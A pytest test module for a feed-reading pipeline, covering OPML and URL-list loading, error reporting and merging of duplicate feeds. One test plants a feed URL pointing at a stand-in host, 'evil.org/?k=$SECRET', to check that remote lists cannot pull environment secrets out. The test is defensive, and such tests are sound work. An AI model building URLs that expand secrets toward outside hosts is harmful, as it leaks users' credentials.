"""Which feeds there are, from all places that name them."""

from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.config import default_config_dir
from pipeline.feeds.listing import load_feeds, load_named_feeds, merge
from pipeline.feeds.model import Feed, FeedChoice, OpmlChoice, url_key
from pipeline.feeds.opml import MOST_BYTES, read_opml, write_opml
from transforms.errors import ConfigError


def feed(url: str, **settings: Any) -> Feed:
    return Feed.model_validate({"url": url} | settings)


def choice(url: str, **settings: Any) -> FeedChoice:
    return FeedChoice.model_validate({"url": url} | settings)


def problems(names: list[str]) -> tuple[str, ...]:
    with pytest.raises(ConfigError) as raised:
        load_named_feeds(names)
    return raised.value.problems


def test_feeds_come_from_the_configuration_from_files_and_from_urls(tmp_path: Path) -> None:
    (tmp_path / "mine.opml").write_bytes(write_opml([feed("https://b.org/", tags=("x",))]))
    asked = []

    def read_url(url: str) -> bytes:
        asked.append(url)
        return write_opml([feed("https://c.org/")])

    found = load_feeds(
        [
            choice("https://a.org/", name="A"),
            OpmlChoice(opml="mine.opml", tags=("Mine",)),
            OpmlChoice(opml="https://lists.org/opml"),
        ],
        tmp_path,
        read_url,
    )
    assert found.feeds == (
        feed("https://a.org/", name="A", expands=True),
        feed("https://b.org/", tags=("mine", "x")),
        feed("https://c.org/"),
    )
    assert not found.problems
    assert asked == ["https://lists.org/opml"]


def test_files_that_cannot_be_read_are_told_all_at_once(tmp_path: Path) -> None:
    (tmp_path / "broken.opml").write_text("<opml>\n<body>")
    (tmp_path / "large.opml").write_bytes(b" " * (MOST_BYTES + 1))
    names = ["missing.opml", "broken.opml", "large.opml"]
    with pytest.raises(ConfigError) as raised:
        load_feeds([OpmlChoice(opml=name) for name in names], tmp_path)
    missing, broken, large = raised.value.problems
    assert missing == f"{tmp_path}/missing.opml: No such file or directory"
    assert broken.startswith(f"{tmp_path}/broken.opml:2: no OPML: ")
    assert large == f"{tmp_path}/large.opml: larger than 10,000,000 bytes"


def test_a_list_elsewhere_that_cannot_be_had_costs_only_itself(tmp_path: Path) -> None:
    def read_url(url: str) -> bytes:
        if "down" in url:
            raise TimeoutError("timed out")
        return b"<html>not found</html>"

    found = load_feeds(
        [
            OpmlChoice(opml="https://down.org/opml"),
            OpmlChoice(opml="https://moved.org/opml"),
            choice("https://a.org/"),
        ],
        tmp_path,
        read_url,
    )
    assert [one.url for one in found.feeds] == ["https://a.org/"]
    assert found.problems == (
        "https://down.org/opml: timed out",
        "https://moved.org/opml:1: no OPML: it begins with <html>",
    )


def test_without_a_network_lists_elsewhere_are_left_out_and_told(tmp_path: Path) -> None:
    found = load_feeds([OpmlChoice(opml="HTTPS://lists.org/opml")], tmp_path)
    assert found == ((), ("HTTPS://lists.org/opml: not asked for its feeds",))


def test_a_list_from_elsewhere_learns_nothing_of_the_environment(tmp_path: Path) -> None:
    stealing = write_opml([feed("https://evil.org/?k=$SECRET")])
    (one,) = load_feeds(
        [OpmlChoice(opml="https://evil.org/opml")], tmp_path, lambda _: stealing
    ).feeds
    assert one.request_url({"SECRET": "hunter2"}) == "https://evil.org/?k=$SECRET"


def test_a_command_line_names_urls_opml_and_lists(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("feeds.opml").write_bytes(write_opml([feed("https://a.org/", tags=("x",))]))
    Path("urls.txt").write_text(
        "\ufeff# my feeds\n\nhttps://b.org/rss  # the best\r\nhttps://c.org/#part\nnothing\n"
    )
    found = load_named_feeds(["https://d.org/?a=$b", "urls.txt", "feeds.opml"])
    assert found.feeds == (
        feed("https://d.org/?a=$b"),
        feed("https://b.org/rss"),
        feed("https://c.org/#part"),
        feed("https://a.org/", tags=("x",)),
    )
    assert found.problems == ("urls.txt:5: neither http nor https: nothing",)


def test_names_that_cannot_be_used_are_told_all_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("notes.txt").write_text("buy milk\n")
    Path("empty.txt").write_text("# nothing yet\n")
    assert problems(["ftp://a.org", "missing", "notes.txt", ".", "empty.txt"]) == (
        "neither http nor https: ftp://a.org",
        "missing: No such file or directory",
        "notes.txt: neither OPML nor a list of URLs, one a line",
        "notes.txt:1: an URL holds no ' ': buy milk",
        ".: Is a directory",
    )
    assert load_named_feeds(["empty.txt"]) == ((), ())


def test_mentions_of_one_feed_are_joined() -> None:
    first = feed("https://A.org", name="First", tags=("b",))
    second = feed("https://a.org:443/", name="Second", tags=("a", "b"), interval="1h")
    other = feed("https://b.org/")
    assert merge([first, other, second]) == (
        feed("https://A.org", name="First", tags=("a", "b"), interval=timedelta(hours=1)),
        other,
    )


def test_what_the_configuration_says_goes_before_what_lists_say() -> None:
    listed = feed("https://a.org/#x$Y", name="Listed", full_text=True, language="en")
    said = feed("https://a.org/", name="Said", headers={"X": "$T"}, expands=True)
    assert merge([listed, said]) == (
        feed(
            "https://a.org/",
            name="Said",
            headers={"X": "$T"},
            full_text=True,
            language="en",
            expands=True,
        ),
    )


def test_a_feed_is_asked_as_one_mention_says() -> None:
    first = feed("https://a.org/", basic_auth="$LOGIN", expands=True)
    second = feed("https://a.org/", headers={"Authorization": "Bearer $T"}, expands=True)
    assert merge([first, second]) == (first,)
    assert merge([second, first]) == (second,)


paths = st.sampled_from(["", "/", "/a", "/A", "/a?b", "/a#b"])
hosts = st.sampled_from(["a.org", "A.ORG", "a.org:443", "b.org"])
feeds = st.builds(
    lambda host, path, tags, expands: feed(f"https://{host}{path}", tags=tags, expands=expands),
    hosts,
    paths,
    st.lists(st.sampled_from("xyz")),
    st.booleans(),
)


@given(st.lists(feeds, max_size=8))
def test_no_feed_is_lost_or_doubled_when_mentions_are_joined(mentions: list[Feed]) -> None:
    merged = merge(mentions)
    keys = [url_key(one.url) for one in merged]
    assert keys == list(dict.fromkeys(url_key(one.url) for one in mentions))
    for one, key in zip(merged, keys, strict=True):
        same = [mention for mention in mentions if url_key(mention.url) == key]
        assert set(one.tags) == {tag for mention in same for tag in mention.tags}
        assert one.expands == any(mention.expands for mention in same)
    assert merge(merged) == merged


def test_the_example_list_can_be_used() -> None:
    path = default_config_dir() / "feeds.opml"
    found = read_opml(path.read_bytes(), "feeds.opml")
    assert not found.problems
    assert len(found.feeds) >= 40
    assert merge(found.feeds) == found.feeds, "one stands there twice"
    names = [one.name for one in found.feeds]
    assert len(set(names)) == len(names)
    for one in found.feeds:
        assert one.url.startswith("https://")
        assert one.name
        assert one.tags
    languages = {one.language for one in found.feeds}
    assert languages >= {"de", "en", "es", "fr", "it", "nl"}
